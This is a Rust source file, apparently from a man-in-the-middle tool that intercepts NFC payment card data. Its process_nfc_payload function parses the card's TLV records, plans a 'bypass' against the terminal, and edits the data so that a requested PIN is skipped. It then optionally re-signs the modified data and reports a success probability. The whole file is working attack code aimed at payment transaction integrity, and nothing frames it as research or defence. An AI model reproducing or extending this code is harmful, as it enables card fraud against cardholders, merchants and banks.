use crate::analyze::analyze;
use crate::bypass::{self, BypassError, TerminalKind};
use crate::envelope::{AppliedEdit, EnvelopeError, MitmSummary, NfcEnvelope, NfcResponse};
use crate::policy::PolicySnapshot;
use crate::sign::SignError;
use crate::tlv::{ParseError, TlvSet};
use hexplay::HexViewBuilder;
use log::{debug, info, trace};
use std::fmt;
use thiserror::Error;

/// Wire taxonomy carried in ERROR frame bodies and HTTP error responses.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ErrorCode {
    ParseError,
    FrameError,
    ChecksumMismatch,
    Blocked,
    Internal,
    Timeout,
    ResourceExhausted,
    ShuttingDown,
}

impl ErrorCode {
    pub fn as_str(&self) -> &'static str {
        match self {
            ErrorCode::ParseError => "PARSE_ERROR",
            ErrorCode::FrameError => "FRAME_ERROR",
            ErrorCode::ChecksumMismatch => "CHECKSUM_MISMATCH",
            ErrorCode::Blocked => "BLOCKED",
            ErrorCode::Internal => "INTERNAL",
            ErrorCode::Timeout => "TIMEOUT",
            ErrorCode::ResourceExhausted => "RESOURCE_EXHAUSTED",
            ErrorCode::ShuttingDown => "SHUTTING_DOWN",
        }
    }
}

impl fmt::Display for ErrorCode {
    fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result {
        write!(f, "{}", self.as_str())
    }
}

/// JSON body for an ERROR frame or HTTP error response.
pub fn error_payload(code: ErrorCode, message: &str) -> Vec<u8> {
    serde_json::to_vec(&serde_json::json!({
        "code": code.as_str(),
        "message": message,
    }))
    .unwrap_or_default()
}

#[derive(Debug, Error)]
pub enum ProcessError {
    #[error(transparent)]
    Envelope(#[from] EnvelopeError),

    #[error("TLV rejected: {0}")]
    Parse(#[from] ParseError),

    #[error("blocked by policy")]
    Blocked,

    #[error(transparent)]
    Bypass(#[from] BypassError),

    #[error(transparent)]
    Sign(#[from] SignError),
}

impl ProcessError {
    pub fn wire_code(&self) -> ErrorCode {
        match self {
            ProcessError::Envelope(_) | ProcessError::Parse(_) => ErrorCode::ParseError,
            ProcessError::Blocked => ErrorCode::Blocked,
            ProcessError::Bypass(_) | ProcessError::Sign(_) => ErrorCode::Internal,
        }
    }
}

pub struct ProcessOutcome {
    pub response: NfcResponse,
    pub high_risk: bool,
}

/// One NFC_DATA payload through the whole pipeline: envelope, TLV, card
/// analysis, bypass plan, edits, signature, response envelope. Pure apart
/// from logging; the caller owns all I/O and timeouts.
pub fn process_nfc_payload(
    payload: &[u8],
    snapshot: &PolicySnapshot,
) -> Result<ProcessOutcome, ProcessError> {
    if snapshot.policy.block_all {
        info!("block_all set, refusing NFC data");
        return Err(ProcessError::Blocked);
    }

    let envelope = NfcEnvelope::parse(payload)?;
    let tlv_bytes = envelope.extract_tlv()?;
    trace!(
        "inbound TLV ({} bytes):\n{}",
        tlv_bytes.len(),
        HexViewBuilder::new(&tlv_bytes).finish()
    );
    let tlvs = TlvSet::parse(&tlv_bytes)?;

    let card = analyze(&tlvs);
    let terminal = TerminalKind::from_tlv(&tlvs);
    if bypass::is_pin_required(&tlvs) {
        info!("card requests a PIN, plan will bypass it");
    }

    let plan = bypass::plan(&card, terminal, &snapshot.policy);
    if plan.blocked {
        return Err(ProcessError::Blocked);
    }
    bypass::validate(&plan)?;

    for edit in &plan.edits {
        debug!(
            "edit {} ({})",
            edit,
            crate::tlv::tag_name(edit.tag()).unwrap_or("unknown tag")
        );
    }

    let mut modified = tlvs;
    modified.apply(&plan.edits);
    let mut out_bytes = modified.serialize();

    let mut signature_tag_present = false;
    if snapshot.policy.mitm_enabled {
        if let Some(key) = &snapshot.key {
            let node = key.signature_node(&out_bytes)?;
            modified.push(node);
            out_bytes = modified.serialize();
            signature_tag_present = true;
        }
    }

    debug!(
        "processed NFC data: {} edits, {} -> {} bytes, signed={}",
        plan.edits.len(),
        tlv_bytes.len(),
        out_bytes.len(),
        signature_tag_present
    );

    let response = NfcResponse {
        modified_tlv_hex: hex::encode_upper(&out_bytes),
        mitm: MitmSummary {
            applied_edits: plan.edits.iter().map(AppliedEdit::from).collect(),
            strategy: plan.strategy.clone(),
            signature_tag_present,
            success_probability: plan.success_probability,
        },
        ancillary: envelope.ancillary(),
    };

    Ok(ProcessOutcome {
        response,
        high_risk: plan.high_risk,
    })
}
